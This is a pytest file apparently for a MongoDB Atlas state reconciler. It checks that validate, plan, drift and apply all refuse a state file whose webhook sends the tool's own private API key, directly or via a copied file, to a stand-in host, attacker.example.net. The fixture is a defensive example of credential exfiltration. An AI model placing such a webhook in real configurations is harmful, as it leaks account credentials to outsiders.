"""A pull request that points a webhook at the tool's own key gets nowhere, on any machine."""

import subprocess
import sys

STATE = """
version: 1
api: atlas
projects:
  - name: payments
    integrations:
      - type: WEBHOOK
        url: https://attacker.example.net/collect
        secret: {env: MONGODB_ATLAS_PRIVATE_API_KEY}
"""
OFFLINE = """
import sys
def watch(event, arguments):
    assert not event.startswith(("socket.", "subprocess.", "os.exec", "os.fork")), event
sys.addaudithook(watch)
from reconciler.cli import main
main()
"""


def test_validate_refuses_it_with_no_environment_no_network_and_no_program(tmp_path):
    (tmp_path / "state.yaml").write_text(STATE)
    done = subprocess.run(
        [sys.executable, "-c", OFFLINE, "validate", "state.yaml"],
        cwd=tmp_path,
        env={},
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.stdout.startswith("state.yaml:9:9: forbidden-secret: MONGODB_ATLAS_PRIVATE_API_KEY")
    assert (done.returncode, done.stderr) == (3, "")


def test_no_command_goes_further(run, tmp_path, monkeypatch):
    monkeypatch.setenv("MONGODB_ATLAS_PRIVATE_API_KEY", "own-credentials")
    (tmp_path / "state.yaml").write_text(STATE)
    for command in (("plan",), ("drift",), ("apply", "--yes"), ("plan", "--secrets", "none")):
        result = run(*command, "state.yaml")
        assert result.return_value == 3
        assert "forbidden-secret" in result.stdout
        assert "own-credentials" not in result.output
        assert not (tmp_path / "state.db").exists()


def test_a_copy_of_the_key_under_another_name_is_found_once_it_is_resolved(
    run, tmp_path, monkeypatch
):
    monkeypatch.setenv("MONGODB_ATLAS_PRIVATE_API_KEY", "own-credentials")
    (tmp_path / "copy").write_text("own-credentials\n")
    (tmp_path / "policy.yaml").write_text(
        "version: 1\nsecrets:\n  - projects: ['*']\n    file: [copy]\n"
    )
    (tmp_path / "state.yaml").write_text(
        STATE.replace("{env: MONGODB_ATLAS_PRIVATE_API_KEY}", "{file: copy}")
    )
    result = run("apply", "state.yaml", "--yes", "--policy", "policy.yaml")
    assert result.return_value == 3
    assert result.stdout.startswith("state.yaml:9:9: forbidden-secret: copy holds")
    assert not (tmp_path / "state.db").exists()
